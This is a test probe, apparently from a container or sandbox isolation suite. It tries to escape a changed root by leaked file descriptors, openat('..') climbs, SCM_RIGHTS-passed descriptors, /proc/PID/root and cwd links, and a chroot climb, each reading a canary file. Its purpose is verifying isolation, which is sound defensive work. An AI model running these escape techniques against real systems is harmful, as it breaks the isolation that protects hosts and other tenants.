#: number: 37
#: title: Inherited descriptors and climbing out of the root
#: technique: Look for open descriptors; climb by openat("..") from every directory at hand, O_PATH ones and received ones too; change root and climb.
#: reference: CVE-2019-5736, CVE-2024-21626 (leaked descriptors), path_resolution(7), unix(7) SCM_RIGHTS
#: expected: only 0, 1 and 2 are open; no climb meets the canary file
#: control: on the host descriptor 9 is leaked to the probe, and each climb reads the canary

CANARY = os.environ["PROBE_CANARY_FILE"].lstrip("/")
TOKEN = os.environ["PROBE_CANARY_TOKEN"].encode()


def read_canary(directory):
    fd = os.open(CANARY, os.O_RDONLY, dir_fd=directory)
    if os.read(fd, 256).strip() != TOKEN:
        raise RuntimeError("the canary holds something else")
    return "read the canary"


def climbed(directory):
    for _ in range(40):
        directory = os.open("..", os.O_PATH | os.O_DIRECTORY, dir_fd=directory)
    return read_canary(directory)


@attempt("leaked-descriptors")
def _():
    # The harness's own pipe to this child is the one that is fresh: it was made after the start.
    found = [fd for fd in START if fd > 2]
    if not found:
        raise Held("0, 1, 2")
    return "open at start: %s" % found


@attempt("descriptors-are-not-directories", held=HIDDEN + ("EBADF",))
def _():
    found, last = [], OSError(errno.EBADF, "none")
    for fd in range(0, 64):
        try:
            found.append(climbed(fd))
        except OSError as e:
            last = e if e.errno in (errno.ENOENT, errno.EACCES, errno.EPERM) else last
    if not found:
        raise last
    return found[0]


@attempt("direct", held=HIDDEN)
def _():
    return read_canary(os.open("/", os.O_PATH))


@attempt("o_path-climb", held=HIDDEN)
def _():
    return climbed(os.open(scratch(), os.O_PATH | os.O_DIRECTORY))


@attempt("scm_rights-climb", held=HIDDEN)
def _():
    left, right = socket.socketpair()
    socket.send_fds(left, [b"x"], [os.open("/", os.O_PATH | os.O_DIRECTORY)])
    _, received, _, _ = socket.recv_fds(right, 1, 1)
    return climbed(received[0])


@attempt("proc-self-root-climb", held=HIDDEN)
def _():
    return climbed(os.open("/proc/self/root", os.O_PATH | os.O_DIRECTORY))


@attempt("proc-guest-root", held=HIDDEN)
def _():
    return read_canary(os.open("/proc/%d/root" % victim(), os.O_PATH | os.O_DIRECTORY))


@attempt("proc-guest-cwd-climb", held=HIDDEN)
def _():
    return climbed(os.open("/proc/%d/cwd" % victim(), os.O_PATH | os.O_DIRECTORY))


@attempt("proc-every-process", held=HIDDEN)
def _():
    last = OSError(errno.ENOENT, "no process")
    for name in os.listdir("/proc"):
        if name.isdigit():
            for link in ("root", "cwd"):
                try:
                    return climbed(os.open("/proc/%s/%s" % (name, link), os.O_PATH | os.O_DIRECTORY))
                except OSError as e:
                    last = e
    raise last


@attempt("chroot-climb", held=HIDDEN)
def _():
    outside = os.open("/", os.O_RDONLY)
    os.chroot(scratch())
    return climbed(outside)


@attempt("cwd-by-descriptor", held=HIDDEN + ("EBADF",))
def _():
    last = OSError(errno.EBADF, "none")
    for fd in range(3, 64):
        try:
            os.chdir("/proc/self/fd/%d" % fd)
            return climbed(os.open(".", os.O_PATH | os.O_DIRECTORY))
        except OSError as e:
            last = e
    raise last


START = sorted(fd for fd in range(0, 4096) if os.path.lexists("/proc/self/fd/%d" % fd))
run()
